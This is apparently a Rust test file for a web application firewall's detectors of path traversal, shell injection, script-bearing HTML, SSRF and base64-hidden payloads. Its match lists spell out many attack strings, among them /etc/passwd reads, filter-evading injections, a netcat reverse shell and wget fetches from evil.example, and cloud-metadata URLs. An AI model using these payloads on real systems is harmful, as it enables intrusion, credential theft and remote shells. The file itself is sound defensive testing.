//! What detectors take for what they look for, and what is like it and is not.

use super::Detector;
use crate::waf::operators::tests::{compile, evaluate};

/// Each value, and whether it matches.
fn check(name: &str, argument: &[u8], hits: &[&str], misses: &[&str]) {
    let operator = compile(name, argument);
    let mut wrong = Vec::new();
    for (values, expected) in [(hits, true), (misses, false)] {
        for value in values {
            let (outcome, captured) = evaluate(&operator, b"", value.as_bytes());
            assert!(!outcome.exhausted);
            assert_eq!(outcome.matched, captured.is_some(), "{value}");
            if outcome.matched != expected {
                wrong.push(format!("{expected}: {value:?}"));
            }
        }
    }
    assert!(wrong.is_empty(), "@{name} is not\n{}", wrong.join("\n"));
}

#[test]
fn paths_that_lead_out_are_found_however_they_are_written() {
    check(
        "detectTraversal",
        b"",
        &[
            "../../etc/passwd",
            "/static/img/../../etc/passwd",
            "..\\..\\windows\\win.ini",
            "..\\boot.ini",
            "/../secret",
            "....//....//etc/passwd",
            "/..%2f..%2fetc/passwd",
            "%2e%2e%2fetc",
            "%252e%252e%252fetc",
            "..%c0%afetc",
            "%C0%AE%C0%AE%C0%AF",
            "..%25%32%66etc",
            "%uff0e%uff0e%u2215x",
            "\\u002e\\u002e/x",
            "..0x2f..0x2fx",
            "/0x2e0x2e/x",
            "a/..;/manager/html",
            "see ../../../etc/passwd for it",
            "see ..\\..\\..\\Windows\\Win.ini for it",
            "My Documents/../../../../srv/app/settings.py",
            "../../../../srv/app/settings.py .png",
            "'../../../../srv/app/settings.py",
            "[a](../../../../../etc/shadow)",
            "[a](..%2f..%2fx)",
            "file=../../x",
            "/./././././x",
            // What decoders with mistakes make dots and separators of.
            "..%c0%5cboot.ini",
            "%c0.%c0./x",
            "%c0%fe%c0%fe%c0%9vx",
            "..%bg%qfx",
            "%%32%%65%%32%%65%%35%%63x",
            "%%c0%6e%c0%6e%c1%8sx",
            "..%01%u2215x",
            "..%uF025x",
            "%f8%80%80%80%ae%f8%80%80%80%ae%fc%80%80%80%80%afx",
            ".?%c1%afx",
            "??%255cx",
        ],
        &[
            "images/a.png",
            "../images/a.png",
            "a/../b",
            "wait... what/ever",
            "yes.../no",
            "really?.%20yes/no",
            "what??%20/x",
            "100%of..%zz/x",
            "and/or.. maybe",
            "v1..v2",
            "https://example.com/.../page",
            "import x from '../../lib/x'",
            "import x from '../../../lib/x'",
            "#include \"../../../third_party/common.h\"",
            "go build -o ./client ../../../../interop/client/",
            ".. include:: ../../../../CONTRIBUTING.rst",
            "ROOT=$(dirname \"$0\")/../../..",
            "cd ${HERE}/../../.. || exit",
            "[policy](../../../VERSIONING.md).",
            "url(../../img/a.png)",
            "../../../cmd/a.go:12:5 is where the compiler says that a name is not declared",
            "/usr/lib/gcc/x86_64-linux-gnu/14/../../../../include is what it searches",
            "gitdir: ../../../.git/modules/a",
            "![a](../img/a.png) and [b](../b.md)",
            "50%20off",
            "C:\\Users\\me",
            "..",
            "1/2/3",
        ],
    );
}

#[test]
fn commands_are_found_where_a_shell_begins_one() {
    check(
        "detectShell",
        b"",
        &[
            ";id",
            "x=$(wget evil.example/a)",
            "x=$(id -u)",
            "x=$(nc evil.example 4444 -e sh)",
            "ping \"x=$(rm -rf data)\"",
            ";u=evil.example/a;wget $u",
            "a;cat $file",
            "127.0.0.1|grep -r password",
            "127.0.0.1|tail -n 100 config.php",
            "|id",
            "||id|",
            "& ping -n 30 127.0.0.1 &",
            "' ; /bin/sleep 31 ;",
            "a);id",
            "127.0.0.1;id",
            "127.0.0.1 && ls /etc",
            "; cat /et'c/pa'ss'wd",
            ";c'a't /etc/passwd",
            ";c\\at /etc/passwd",
            ";ca$@t /etc/passwd",
            ";cat$IFS/etc/passwd",
            ";{cat,/etc/passwd}",
            ";/???/??t /???/p??s??",
            "`id`",
            "x=`uname -a`",
            "$(whoami)",
            "a$(cat /etc/passwd)b",
            ";wget http://host/a.sh",
            "|getent hosts host.example.&",
            "| set /a 3482*7301",
            "cat /etc/passwd",
            "/usr/bin/id",
            "/bin/ls -al",
            "ping -c 3 127.0.0.1",
            "ping.exe -n 31 127.0.0.1",
            "\n id",
            "x\nwget http://host/a",
            " | dir c:/",
            " | dir c: ",
            "$&&dir c:/",
            "& w^h^o^a^m^i",
            "x; sudo ls -la /root",
            "|whoami",
            "x||sleep 5||",
            ";sleep 10;",
            ";echo test",
            "| net user",
            "a;id",
            "a|env",
            "127.0.0.1\nid",
            "w'h'o'am'i",
            ";/bin/c?t /x",
            ";. /tmp/x",
            "x\n| id |\n|-|",
            "x|id\n|---|",
            "| id\n|---|",
            "x| id |\n|---|",
            "```\n; cat /etc/passwd",
            "```\nx\n```\n; cat /etc/passwd",
            // Line ends that were escaped once too often.
            "\\nid;",
            ";id\\n",
            "|usr/bin/id\\n",
            "\nping -i 30 127.0.0.1 \n",
            " | Dir c:\\",
            "perl -e 'print \"X\"x81920'",
            "127.0.0.1|echo 'x' > x.php",
            "`echo x>x.txt`",
            ";expr 1 + 2",
            "/bin$u/bash$u <ip> <port>",
            "x=$(curl http://host/)",
            "x=$(whoami)",
            "COPY C:\\x C:\\y",
            "cat $HOME/.netrc",
            ";git clone http://host/a.git",
            "a\nb\n;id",
            "c\\\\a\\\\t /etc/passwd",
        ],
        &[
            "id",
            "ls 300 lexus",
            "nc 8000 controller",
            "curl and divergence",
            "exec noun",
            "bash away in the gym",
            "echo in the mirror",
            "find your style",
            "name;id;email",
            "name,id",
            "Top 10 & more",
            "It's our holiday; see \"pictures\" & more",
            "php|python|ruby",
            "Tom & Jerry",
            "Q&A: who asks?",
            "rock & roll; sort by name",
            "a=1&curl=2&id=3",
            "the `id` column",
            "Use `ls -la` to list files, and then read what it prints about each of them",
            "$(document).ready(function() {})",
            "price < 5 && host > 3",
            "tail of the dog; head of the cat",
            "text/html; charset=utf-8",
            "You can look into your own files with this line, as I always do: cd /etc; cat /etc/passwd",
            "a; . b. c",
            "| id | name |\n|---|---|\n| 1 | x |",
            "```sh\n$ cat ../README.md | grep -n foo\n```",
            "see; . . .",
            "1 Main Street\nhost family\ntime out",
            "dir  = flag.String(\"dir\", \"../../../testdata\", \"where scripts are\")",
            "type Item = <&'a Vec<i32> as IntoIterator>::Item;\ntype Item = <&'a T>::Item;",
            "fn at<R>(index: BitIdx<R>) -> BitPos<R>\nwhere R: BitRegister {\n x()\n}",
            // Scripts that people show: what they have set, keep and send through filters.
            "X=$(dirname \"$0\")",
            "here=\"$(pwd)\"",
            "version=$(printf '%s' \"$x\" | cut -d . -f 1)",
            "go build -o ./x",
            "git clone https://host/a.git",
            "python3 -m venv \"${name}\" || return",
            "echo \"To: $MAIL_TO\"",
            "if echo \"$answer\" | grep -q name; then",
            "mkdir -p \"$folder\"",
            "set -e\ncd \"$here\"\nexport X=1\nls -la /tmp | sort > /tmp/x\n",
            "foreach ($users as $user) {\n    echo $user->name;\n}",
            "FROM nginx\nCOPY a.conf /etc/nginx/a.conf",
            "/**\n * What it is.\n */",
            "public string Name { get; set; }",
            "\\begin{matrix}a&b\\\\c&d\\end{matrix}",
            "Copy C:\\x to the stick",
        ],
    );
    check(
        "detectShell",
        b"likely",
        &["a;b;id;c", "ls -la", "name;date"],
        &["id", "Tom & Jerry"],
    );
}

#[test]
fn html_that_runs_scripts_is_found_and_styled_text_is_not() {
    check(
        "detectHTML",
        b"",
        &[
            "<script>",
            "<svg/onload=x>",
            "<p onclick=x>",
            "' onerror=x '",
            "<a href=javascript:x>",
            "<iframe src=//x>",
            "<meta http-equiv=refresh>",
            "<meta name=\"a>\" http-equiv=refresh content=0;url=//evil.example>",
            "<p>hi</p><base title=\"a>\" href=\"//evil.example/\">",
            "<p>hi</p><link title='a>' rel=\"stylesheet\" href=\"//evil.example/x.css\">",
            "<p style=\"x:expr/**/ession(y)\">",
            "<p style=\"x:Expression(y)\">",
            "<p style='background:url(java\\script:x)'>",
            "<p style=\"behavior:url(x)\">",
            "<p style=\"x:&#101;xpression(y)\">",
            "<?import x>",
            "<?xml-stylesheet href=x?>",
            "<!ENTITY x>",
            "<p style=\"color:red\" onclick=x>",
            "<!-- ` --><script>",
            "<meta charset=utf-7>",
            "<meta charset=x-imap4-modified-utf7>",
            "<link rel=stylesheet href=//x>",
            "<iframe src=x>",
            "<svg viewBox=\"0 0 9 9\"><script>x</script></svg>",
            "<svg viewBox=\"0 0 9 9\" onload=x>",
            "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">",
            "<img src=\"data:image/svg+xml,x\">",
        ],
        &[
            "<p style=\"text-align: center;\">Hello</p>",
            "<span style='color:#c00; background-image: url(/a.png)'>red</span>",
            "style=modern",
            "<!DOCTYPE html>",
            "<!-- `code` -->",
            "<!--[if gte mso 9]>x<![endif]-->",
            "<a href=\"https://example.com/\">x</a>",
            "<meta charset=\"utf-8\"><p>pasted</p>",
            "<html xmlns:o=\"urn:schemas-microsoft-com:office:office\" xmlns=\"http://www.w3.org/TR/REC-html40\"><p>x</p></html>",
            "<Link href=\"/about\">About us</Link>",
            "A new <object> is made of it.",
            "<img src=\"data:image/png;base64,iVBORw0KGgo=\">",
            "<svg viewBox=\"0 0 16 16\" width=\"16\"><path d=\"M8 9.5\"></path></svg>",
            "<3",
        ],
    );
}

#[test]
fn urls_of_hosts_inside_are_found_however_they_are_written() {
    check(
        "detectSSRF",
        b"",
        &[
            "http://169.254.169.254/latest/meta-data/",
            "http://metadata.google.internal/computeMetadata/v1/",
            "http://2852039166/",
            "http://0xa9fea9fe/",
            "http://0251.0376.0251.0376/",
            "http://127.1/",
            "http://0/",
            "https://localhost:8080/admin",
            "http://[::1]/",
            "http://[::ffff:169.254.169.254]/",
            "http://[fd00:ec2::254]/",
            "//127.0.0.1/",
            "http:\\\\127.0.0.1\\",
            "http://user:pw@10.0.0.1/",
            "http://example.com@192.168.0.1/",
            "http://127.0.0.1.nip.io/",
            "http://ⓛⓞⓒⓐⓛⓗⓞⓢⓣ/",
            "http://127。0。0。1/",
            "http://%31%32%37.0.0.1/",
            "gopher://127.0.0.1:6379/_x",
            "url:http://127.0.0.1/",
            "http://api.default.svc.cluster.local/",
            "http://LOCALHOST./",
            "http://example.com#@127.0.0.1/",
            "http://example.com\\@127.0.0.1/",
            "http://example.com?@127.0.0.1/",
            "http:127.0.0.1/x",
        ],
        &[
            "http://example.com/",
            "https://192.0.2.7/",
            "http://11.example.com/",
            "see http://localhost/ for more",
            "localhost",
            "10.0.0.1",
            "/a/b",
            "12:30",
            "mailto:me@localhost",
            "http://localhost.example.com/",
            "https://metadata.example.com/",
            "https://172.15.0.1/",
            "https://example.com/?mail=me@localhost",
            "https://example.com/#@127.0.0.1",
            "http: 127.0.0.1",
        ],
    );
    check(
        "detectSSRF",
        b"metadata disguised",
        &["http://169.254.169.254/", "http://2130706433/"],
        &["http://127.0.0.1/", "http://10.0.0.1/"],
    );
}

#[test]
fn text_in_base64_is_found_and_decoded() {
    let operator = compile("detectBase64", b"");
    let (outcome, text) = evaluate(&operator, b"", b"JyBvciAxPTEtLQ==");
    assert!(outcome.matched);
    assert_eq!(text.as_deref(), Some(&b"' or 1=1--"[..]));
    check(
        "detectBase64",
        b"",
        &["PHNjcmlwdD4", "Oy9iaW4vaWQ", "PHN2Zy9vbmxvYWQ9YWxlcnQoMSk-"],
        &[
            "",
            "administrator",
            "3f2a9c51d07e4b8fa6c2e19d05b7f834",
            "hello world",
            "Zm9vYmFy",
            "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl",
            "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ",
            "PHNjcmlwdD4=====",
        ],
    );
}

#[test]
fn what_is_said_of_every_match_holds() {
    let detectors = [
        Detector::Traversal,
        Detector::Shell(true),
        Detector::ssrf(b"").unwrap(),
        Detector::Base64,
        Detector::Html,
    ];
    let pieces: [&[u8]; 30] = [
        b"..",
        b"/",
        b"\\",
        b"%2e",
        b"%252f",
        b"%c0%ae",
        b"%bg%qf",
        b"%c1",
        b"?",
        b"\xf8\x80\x80\x80\xae",
        b"%01",
        b"\\u002e",
        b"0x2f",
        b";",
        b"|",
        b"`",
        b"$(",
        b"id",
        b"cat",
        b" ",
        b"-la",
        b"/etc/passwd",
        b"http:",
        b"//",
        b"127.1",
        b"8",
        b"localhost",
        b"PHN2",
        b"\n",
        b".",
    ];
    let mut state = 1_u32;
    let mut next = || {
        state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
        (state >> 16) as usize
    };
    let mut matched = 0;
    for _ in 0..60_000 {
        let count = 1 + next() % 7;
        let text: Vec<u8> = (0..count)
            .flat_map(|_| pieces[next() % pieces.len()])
            .copied()
            .collect();
        for detector in detectors {
            if !detector.finds(&text, None) {
                continue;
            }
            matched += 1;
            let lower = text.to_ascii_lowercase();
            let has = |word: &&[u8]| {
                lower
                    .windows(word.len())
                    .any(|it| it == word.to_ascii_lowercase())
            };
            let shown = text.escape_ascii();
            assert!(
                detector.words().is_none_or(|words| words.iter().any(has)),
                "{detector:?} {shown}"
            );
            assert!(
                detector.bytes().is_none_or(|set| set.find(&text).is_some()),
                "{detector:?} {shown}"
            );
            assert!(detector.min_len() <= text.len(), "{detector:?} {shown}");
        }
    }
    assert!(matched > 1000);
}

#[test]
fn long_values_come_to_an_end() {
    // What stands before, what is repeated, what stands behind. Read again for each repetition, none
    // of them would end in hours.
    let values: [(&[u8], &[u8], &[u8]); 29] = [
        (b"", b";id", b""),
        (b"", b"a``", b""),
        (b"", b"`id", b""),
        (b"", b"%25", b""),
        (b"", b"../", b""),
        (b"", b"a=|", b""),
        (b"", b"$(", b""),
        (b"", b"'\"", b""),
        (b"", b"id<", b""),
        (b"", b"..;/", b""),
        (b"", b"....//", b""),
        (b"", b"\\x2", b""),
        (b"", b"\r", b""),
        (b"", b"\r \x0c", b"cat"),
        (b"", b";\r", b""),
        (b"a", b";id x", b""),
        (b"))))", b"\ncat", b"\ncat x"),
        (b"a", b"\rid", b"))))"),
        (b"", b"$(cat x", b""),
        (b"''''", b"../../../ ", b""),
        (b"", b"<p style=x ", b""),
        (b"", b"dir c: ", b" "),
        (b"", b"%%", b""),
        (b"", b"??", b"%c1%af"),
        (b"", b"\\n", b"id"),
        (b"", b"x=$(id ", b""),
        (b"", b"<meta ", b""),
        (b"", b"<meta a>", b""),
        (b"", b" ;id", b""),
    ];
    for (before, unit, behind) in values {
        let text = [
            before.repeat(1 << 17),
            unit.repeat((1 << 19) / unit.len()),
            behind.repeat(1 << 17),
        ]
        .concat();
        for detector in [
            Detector::Traversal,
            Detector::Shell(true),
            Detector::Shell(false),
            Detector::Sql,
            Detector::ssrf(b"").unwrap(),
            Detector::Base64,
            Detector::Html,
        ] {
            detector.finds(&text, None);
        }
    }
}
